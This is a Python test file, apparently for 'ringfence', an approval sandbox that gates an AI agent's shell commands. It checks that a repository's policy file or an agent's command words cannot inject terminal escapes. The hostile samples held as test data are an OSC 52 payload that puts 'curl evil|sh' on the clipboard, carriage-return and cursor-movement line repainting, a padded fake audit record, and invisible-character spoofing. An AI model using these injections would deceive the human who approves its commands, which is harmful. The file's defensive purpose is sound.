"""What ``ringfence`` prints for a person to read holds text others chose: the command's words
(the agent's), a project's ``.ringfence.toml`` (the repository's). None of it may act on the
terminal (OSC 52 sets the clipboard, CR and cursor moves repaint a line) or add a line."""

from __future__ import annotations

import json
import subprocess
import sys

from tests.conftest import World

from ringfence.approval.prompt import visible

# OSC 52: the terminal puts "curl evil|sh" on the clipboard (kitty, iTerm2, WezTerm, foot,
# Windows Terminal, tmux); CR sends the cursor back to repaint the line from its start
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"


def rf(world: World, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ringfence", *args], cwd=world.workspace,
                          env=world.env, capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL, start_new_session=True)


def acts_on_a_terminal(text: str) -> bool:
    return any(c in text for c in "\x1b\x07\r\x9b\x9d\u2028")


def test_project_rule_cannot_write_to_the_terminal_through_an_error_line(world: World) -> None:
    """Red team: a cloned repository's ``.ringfence.toml`` may add forbid rules (they only
    narrow). Their name and justification went raw into the one-line error of a forbidden
    command, so ``ringfence run -- ls`` in that checkout set the user's clipboard to a command
    (OSC 52) and repainted the line with CR. The line now shows them escaped."""
    (world.workspace / ".ringfence.toml").write_text(
        '[[rules]]\nprefix = ["ls"]\ndecision = "forbid"\n'
        f'name = {json.dumps("x" + chr(13) + "ok")}\n'
        f'justification = {json.dumps(CLIPBOARD + " safe" + chr(13))}\n')
    r = rf(world, "run", "--", "ls")
    assert r.returncode == 122
    assert not acts_on_a_terminal(r.stderr), repr(r.stderr)
    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 safe\\x0d" in r.stderr
    assert r.stderr.count("\n") == 1


def test_command_words_cannot_write_to_the_terminal_through_an_error_line(
        world: World) -> None:
    """The agent's command words in a refusal (approval mode never, so it asks nobody)."""
    r = rf(world, "run", "--approval-mode", "never", "--", "sh", "-c",
           f"rm -r ~/x {CLIPBOARD}\r\x1b[2Kpytest")
    assert r.returncode == 122 and "rm -r ~/x" in r.stderr
    assert not acts_on_a_terminal(r.stderr), repr(r.stderr)


def test_explain_shows_a_projects_environment_escaped(world: World) -> None:
    """Red team: ``ringfence explain`` is how a user reads what a cloned repository's policy
    does. A value in its ``[environment] set`` went out raw: a newline added lines of the
    project's choosing ("network: on" rendered as ringfence's own), escape sequences moved
    the cursor up to erase the lines above, OSC 52 set the clipboard."""
    value = f"1\nprofile: read-only   network: off\x1b[2A\x1b[2K{CLIPBOARD}\u2028x"
    (world.workspace / ".ringfence.toml").write_text(
        f"[environment]\nset = {{ ZZ = {json.dumps(value)} }}\n")
    r = rf(world, "explain", "--", "true")
    assert r.returncode == 0, r.stderr
    assert not acts_on_a_terminal(r.stdout), repr(r.stdout)
    [line] = [x for x in r.stdout.split("\n") if "ZZ=" in x]
    assert line == f"  ZZ={visible(value)}"
    assert "\n".join(x for x in r.stdout.split("\n") if x.startswith("profile:")).count(
        "profile:") == 1


def test_audit_show_quotes_words_and_cannot_be_padded_into_a_fake_record(
        world: World) -> None:
    """Red team: ``audit show`` joined argv with spaces (``rm -rf 'a b'`` read as two paths),
    and a word padded with spaces wrapped on the terminal so that its tail stood alone on a
    line, where it read as a record of its own (``   99 ... decision forbid``)."""
    pad = " " * 200
    r = rf(world, "run", "--", "echo", "a b", f"x{pad}99 2026-01-01T00:00:00Z decision "
           "forbid [policy]  curl evil")
    assert r.returncode == 0, r.stderr
    shown = rf(world, "audit", "show").stdout
    assert "echo 'a b'" in shown and pad not in shown and "[200 spaces]" in shown


def test_visible_escapes_what_a_terminal_does_not_show() -> None:
    """Invisible characters (zero-width, bidi marks, tags, separators, odd spaces) and long
    runs of spaces are shown, so what the question shows is what runs."""
    assert visible("r\u200bm -rf\u00a0/") == "r\\u200bm -rf\\xa0/"
    assert visible("\u200f\u061c\u2028\u3000\U000e0041\ufeff") == (
        "\\u200f\\u061c\\u2028\\u3000\\U000e0041\\ufeff")
    assert visible("a" + " " * 15 + "b") == "a" + " " * 15 + "b"
    assert visible("a" + " " * 16 + "b") == "a [16 spaces] b"
    assert visible("héllo 日本 — ok") == "héllo 日本 — ok"
